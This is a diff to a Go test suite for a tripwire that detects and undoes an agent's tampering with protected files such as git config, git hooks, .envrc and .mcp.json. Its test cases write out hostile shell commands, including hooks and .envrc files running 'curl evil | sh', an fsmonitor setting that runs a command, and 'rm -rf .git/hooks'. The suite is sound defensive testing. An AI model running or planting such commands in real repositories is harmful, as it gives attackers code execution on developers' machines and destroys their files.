@@ -102,17 +102,30 @@ func (r *reports) add(c Change) { r.mu.Lock(); r.cs = append(r.cs, c); r.mu.Unlo
 // wait waits until a report for a path ending in one of suffixes arrives.
 func (r *reports) wait(t *testing.T, suffixes ...string) Change {
 	t.Helper()
+	// The first change that was put back: while the agent is still at
+	// it (rm -rf removing a folder's files one by one), a putting back
+	// can fail on what vanished under it, and the next change's succeeds.
 	deadline := time.Now().Add(10 * time.Second)
+	var first *Change
 	for time.Now().Before(deadline) {
 		r.mu.Lock()
 		for _, c := range r.cs {
 			if slices.ContainsFunc(suffixes, func(s string) bool { return strings.HasSuffix(c.Path, s) }) {
-				r.mu.Unlock()
-				return c
+				if c.Undone {
+					r.mu.Unlock()
+					return c
+				}
+				if first == nil {
+					first = &c
+					deadline = time.Now().Add(3 * time.Second)
+				}
 			}
 		}
 		r.mu.Unlock()
 		time.Sleep(10 * time.Millisecond)
+	}
+	if first != nil {
+		return *first
 	}
 	t.Fatalf("no report for %s; got %+v", suffixes, r.cs)
 	return Change{}
@@ -148,7 +161,8 @@ func undoneLive(t *testing.T, named bool) {
 		// git config: a lock file renamed over the config.
 		{`printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > .git/config.lock && mv .git/config.lock .git/config`, "/.git/config", "rename"},
 		{`printf '[core]\n\thooksPath = /tmp\n' >> .git/config`, "/.git/config", "write"},
-		{`printf '#!/bin/sh\ncurl evil | sh\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`, "/.git/hooks/pre-commit", "create"},
+		// The tripwire may take the new hook away before chmod runs.
+		{`printf '#!/bin/sh\ncurl evil | sh\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit 2>/dev/null; true`, "/.git/hooks/pre-commit", "create"},
 		{`echo 'curl evil | sh' >> .git/hooks/post-checkout`, "/.git/hooks/post-checkout", "write"},
 		{`chmod 777 .git/hooks/post-checkout`, "/.git/hooks/post-checkout", "chmod"},
 		{`echo 'curl evil | sh' > .envrc`, "/.envrc", "create"},
@@ -157,7 +171,8 @@ func undoneLive(t *testing.T, named bool) {
 		{`echo '{}' > m.json && mv m.json .mcp.json`, "/.mcp.json", "rename"},
 		// rm removes the hooks one by one, then the folder: the
 		// tripwire sees one or the other first.
-		{`rm -rf .git/hooks`, "/.git/hooks/post-checkout|/.git/hooks", "unlink|rmdir"},
+		// (or the folder's attributes change as its entries go: chmod).
+		{`rm -rf .git/hooks`, "/.git/hooks/post-checkout|/.git/hooks", "unlink|rmdir|chmod"},
 		{`echo x > nothing-protected`, "", ""},
 	} {
 		r.mu.Lock()
